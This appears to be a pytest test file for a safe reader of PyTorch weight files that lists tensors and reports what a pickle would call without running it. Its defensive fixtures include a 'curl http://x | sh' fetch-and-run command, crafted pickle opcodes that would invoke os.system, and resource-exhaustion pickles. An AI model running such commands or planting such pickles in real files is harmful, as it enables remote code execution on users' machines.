"""PyTorch's files are read without PyTorch: names, shapes and types, and what a pickle would call."""

import pickle
import pickletools
import struct
import subprocess
import sys

import numpy as np
import pytest

from datapack.errors import WeightsError
from datapack.weights.machine import MOST_OPCODES
from datapack.weights.model import TensorInfo
from datapack.weights.read import read_weights
from tests.conftest import PROJECT
from tests.weights.pickles import (
    Call,
    Name,
    Stored,
    dump,
    module,
    ordered,
    state_dict,
    tensor,
    torch_zip,
    zip_file,
)
from tests.weights.reading import EVIL, ONE, read, refused


def test_a_state_dictionary(tmp_path):
    """Nothing but tensors is in it, and nothing would be called."""
    value, arrays = state_dict()
    found = read(tmp_path, torch_zip(ordered(value), arrays))
    assert found.tensors == {"layer.weight": TensorInfo("F32", (3, 4)), "layer.bias": TensorInfo("F64", (3,))}
    assert (found.format, found.calls, found.left_out) == ("PyTorch", (), ())


def test_a_checkpoint(tmp_path):
    """Keys are joined by dots, and everything else is left out, by name."""
    value = {"epoch": 3, "model": {"w": tensor("0", ONE)}, "optimizer": {"state": {0: {"m": tensor("1", ONE)}}}}
    value |= {"names": ["a", "b"], "none": None, "rows": [1, tensor("0", ONE)]}
    found = read(tmp_path, torch_zip(value, {"0": ONE, "1": ONE}))
    assert list(found.tensors) == ["model.w", "optimizer.state.0.m", "rows.1"]
    assert found.left_out == ("epoch", "names")


def test_a_module_is_walked_as_an_object_that_was_never_made(tmp_path):
    """Its parameters, its buffers and its modules give what its state_dict would."""
    layer = module(
        "models.common.Conv", {"weight": Call(Name("torch._utils", "_rebuild_parameter"), (tensor("0", ONE),))}
    )
    state = {"_parameters": {}, "_buffers": {"seen": tensor("1", ONE), "hidden": tensor("1", ONE)}}
    state |= {"_modules": {"conv": layer}, "_non_persistent_buffers_set": ["hidden"], "stride": tensor("0", ONE)}
    model = Call(Name("models.yolo", "Model"), (), new=True, state=state)
    found = read(tmp_path, torch_zip({"model": model, "epoch": -1}, {"0": ONE, "1": ONE}))
    assert list(found.tensors) == ["model.seen", "model.conv.weight"]
    assert found.classes == ("models.yolo.Model", "models.common.Conv")
    assert found.calls == ("models.yolo.Model(...)", "models.common.Conv(...)")
    assert found.functions == ()


CALLS = [
    (EVIL, "os.system('curl http://x | sh')"),
    (Call(Name("builtins", "eval"), ("1",), new=True), "builtins.eval(...)"),
    (Call(Name("builtins", "getattr"), (Name("os", "path"), "x")), "builtins.getattr(os.path, 'x')"),
    (Call(Call(Name("builtins", "getattr"), (Name("os", "path"), "x")), (1,)), "builtins.getattr(os.path, 'x')(1)"),
    (Call(Name("a", "B"), (1, [2.5, "c"], {}, None, b"x" and 3, 4)), "a.B(1, [2.5, 'c'], {}, None, ...)"),
    (Call(Name("copy_reg", "_reconstructor"), (Name("a", "B"), Name("__builtin__", "object"), None)), "a.B(...)"),
    (Name("this", "s"), "import this.s"),
    (Call(Name("torch.storage", "_load_from_bytes"), ("x",)), "torch.storage._load_from_bytes('x')"),
    (Call(Name("x", "y"), ("z" * 10_000,)), f"x.y('{'z' * 200}'...)"),
    (Call(Name("x", "y"), (1 << 5000,)), "x.y(a number of 5,001 bits)"),
]


@pytest.mark.parametrize(("value", "call"), CALLS)
def test_what_a_pickle_would_call(tmp_path, value, call):
    """It is written as Python would, in brief, and the tensors beside it are found."""
    found = read(tmp_path, torch_zip({"x": value, "w": tensor("0", ONE)}, {"0": ONE}))
    assert call in found.calls
    assert found.tensors == {"w": TensorInfo("F32", (2, 3))}


OPCODES = [
    (b"cos\nenviron\nX\1\0\0\0aX\1\0\0\0bs.", "os.environ.__setitem__('a', 'b')"),
    (b"csys\npath\n]X\1\0\0\0aaa.", "sys.path.extend([['a']])"),
    (b"(X\2\0\0\0lsios\nsystem\n.", "os.system('ls')"),
    (b"(cos\nsystem\nX\2\0\0\0lso.", "os.system('ls')"),
    (b"cos\npath\n}X\1\0\0\0aX\1\0\0\0bsb.", "os.path.__setstate__({...})"),
    (b"\x8c\2os\x8c\6system\x93\x8c\2ls\x85R.", "os.system('ls')"),
    (b"ca\nB\n)}\x92}b.", "a.B(...)"),
    (b"\x82\x07.", "import copyreg.extension.7"),
    (b"\x84\xff\xff\xff\x7f.", "import copyreg.extension.2147483647"),
]


@pytest.mark.parametrize(("steps", "call"), OPCODES)
def test_each_way_to_call_is_seen(tmp_path, steps, call):
    """Attributes, items and states of what would be imported count as well."""
    assert read(tmp_path, b"\x80\4" + steps).calls == (call,)


def test_what_needs_no_code_is_no_call(tmp_path):
    """Values of Python, NumPy and PyTorch in a checkpoint; every protocol of Python's own pickles."""
    import argparse
    import collections
    import datetime
    import pathlib

    value = {
        "opt": argparse.Namespace(lr=0.1, path=pathlib.PurePosixPath("x")),
        "date": datetime.datetime(2026, 1, 2, tzinfo=datetime.UTC),
        "fitness": np.float64(0.5),
        "array": np.arange(3),
        "sets": [{1, 2}, frozenset({3}), collections.OrderedDict(a=1), collections.defaultdict(list), b"bytes", 1j],
    }
    for protocol in range(6):
        assert (
            read(tmp_path, pickle.dumps(value, protocol) if protocol > 1 else b"\x80\2" + pickle.dumps(value, 1)).calls
            == ()
        )
    dtype = Name("torch", "float32")
    device = Call(Name("torch", "device"), ("cpu",))
    assert (
        read(
            tmp_path, torch_zip({"dtype": dtype, "device": device, "size": Call(Name("torch", "Size"), ((1,),))}, {})
        ).calls
        == ()
    )


BROKEN = [
    (dump({"a": 1})[:-1], "a broken pickle: pickle exhausted before seeing STOP"),
    (b"\x80\2.", "it takes a value where there is none"),
    (b"\x80\2R.", "it takes a value where there is none"),
    (b"\x80\2e.", "it takes a value where there is none"),
    (b"\x80\2h\7.", "it takes a value where there is none"),
    (b"\x80\2Nr\xff\xff\xff\xff.", None),  # a memo of 4 billion places takes one
    (b"\x80\2Np99999999999999999999\n.", "its memo has a place"),
    (b"\x80\2L" + b"9" * 100_000 + b"L\n.", "Exceeds the limit"),
    (b"\x80\2\x8b\xff\xff\xff\x7f.", "not enough data in stream"),
    (b"\x80\4\x8e" + struct.pack("<Q", 1 << 62) + b"x.", "a broken pickle"),
    (b"\x80\5\x96" + struct.pack("<Q", 1 << 40) + b"x.", "a broken pickle"),
    (b"\x80\5\x97.", "it needs data from elsewhere"),
    (b"\x80\2\xff.", "unknown"),
    (b"\x80\2X\1\0\0\0aQ.", "'a' in place of a storage"),
    (b"\x80\2Pa\n.", "'a' in place of a storage"),
    (b"\x80\2ca\nb\nNR.", "a call without a tuple of arguments"),
    (b"\x80\2ca\nb\nN\x81.", "an object without a tuple of arguments"),
    (b"\x80\4NN\x93.", "a name that is not text"),
    (b"\x80\2}(Nu.", "a key without a value"),
    (b"\x80\2" + b"N" * (MOST_OPCODES + 5) + b".", "more than 1,000,000 steps"),
]


@pytest.mark.parametrize(("content", "message"), BROKEN)
def test_a_broken_pickle(tmp_path, content, message):
    """One line says why."""
    if message is None:
        assert read(tmp_path, content).tensors == {}
    else:
        assert message in refused(tmp_path, content)


DEEP = b")" + b"\x85" * 300_000
TOWER = b"}q\0" + b"".join(b"}q%c(X\1\0\0\0ah%cX\1\0\0\0bh%cu" % (n + 1, n, n) for n in range(60))
HASHES = b"N" + b"2\x86" * 200  # DUP and TUPLE2: a hash would take 2^200 steps
NESTED = [
    DEEP,
    TOWER,
    b"}" + DEEP + b"Ns",
    b"}" + HASHES + b"Ns",
    b"]q\0h\0a",
    b"}q\0X\0\0\0\0h\0s",
    b"(" + b"}" * 999_000 + b"l",
]
LIMITED = """
import resource, sys
from pathlib import Path
from datapack.weights.read import read_weights
resource.setrlimit(resource.RLIMIT_AS, (1 << 30, 1 << 30))
resource.setrlimit(resource.RLIMIT_CPU, (60, 60))
for path in sys.argv[1:]:
    try:
        read_weights(Path(path))
    except Exception as error:
        assert "too many or nested too deeply, or a list contains itself" in str(error), error
"""


def test_hostile_nesting_takes_neither_memory_nor_time(tmp_path):
    """Tuples that nest a million times, as keys too; values in 2^60 places; lists that contain themselves."""
    paths = [tmp_path / f"{number}.pth" for number in range(len(NESTED))]
    for path, steps in zip(paths, NESTED, strict=True):
        path.write_bytes(b"\x80\2" + steps + b".")
    subprocess.run([sys.executable, "-c", LIMITED, *paths], cwd=PROJECT, check=True)


TENSORS = [
    ({"shape": (3, 3)}, "reaches beyond the end of its storage"),
    ({"offset": 1}, "reaches beyond the end of its storage"),
    ({"offset": -1}, "whose shape and strides do not fit"),
    ({"strides": (1 << 61, 1)}, "reaches beyond the end of its storage"),
    ({"strides": (1,)}, "whose shape and strides do not fit"),
    ({"shape": (-1, 3)}, "are not whole numbers"),
    ({"shape": "x"}, "are not whole numbers"),
    ({"count": 7}, "the storage of w is too short: it has 24 bytes"),
    ({"count": True}, "in place of a storage"),
    ({"kind": "EvilStorage"}, "a storage of an unknown type"),
]


@pytest.mark.parametrize(("changes", "message"), TENSORS)
def test_a_tensor_that_lies(tmp_path, changes, message):
    """It can't point outside its storage."""
    assert message in refused(tmp_path, torch_zip({"w": tensor("0", ONE, **changes)}, {"0": ONE}))


def test_tensors_without_plain_numbers(tmp_path):
    """They are named with the reason, and are not tensors here."""
    sparse = Call(Name("torch._utils", "_rebuild_sparse_tensor"), (Name("torch", "sparse_coo"), ()))
    quantised = tensor("0", ONE, kind="QInt8Storage")
    found = read(tmp_path, torch_zip({"s": sparse, "q": quantised, "w": tensor("0", ONE)}, {"0": ONE}))
    assert found.unusual == {"s": "sparse", "q": "quantised"}
    assert list(found.tensors) == ["w"]


OTHER = [
    ("m.pth", b"hello", "no weights file that datapack knows: expected safetensors, PyTorch or ONNX"),
    ("m.pth", b"", "no weights file that datapack knows"),
    ("m.pt", b"<html>", "no weights file that datapack knows"),
]


@pytest.mark.parametrize(("name", "content", "message"), OTHER)
def test_no_file_of_weights(tmp_path, name, content, message):
    """One line says which formats there are."""
    assert message in refused(tmp_path, content, name)


def test_keras(tmp_path):
    """Its files are recognised and not opened."""
    assert read(tmp_path, zip_file({"config.json": b""}), "m.keras").format == "Keras"
    assert read(tmp_path, b"\x89HDF\r\n\x1a\n" + bytes(99), "m.h5").format == "HDF5"


def test_no_regular_file(tmp_path):
    """A folder, a FIFO and a file that is not there are one line each."""
    import os

    os.mkfifo(tmp_path / "fifo.pth")
    for path in (tmp_path, tmp_path / "fifo.pth", tmp_path / "none.pth"):
        with pytest.raises(WeightsError):
            read_weights(path)


def test_every_opcode_is_known():
    """A pickle of any protocol is read to its end."""
    from datapack.weights import machine

    assert {opcode.name for opcode in pickletools.opcodes} == machine._STEPS.keys() | machine._STEPS_WITH.keys()


def test_a_persistent_id_that_is_no_storage(tmp_path):
    """Only storages have one."""
    assert "in place of a storage" in refused(tmp_path, torch_zip({"x": Stored(("module", 1, 2, 3, 4))}, {}))
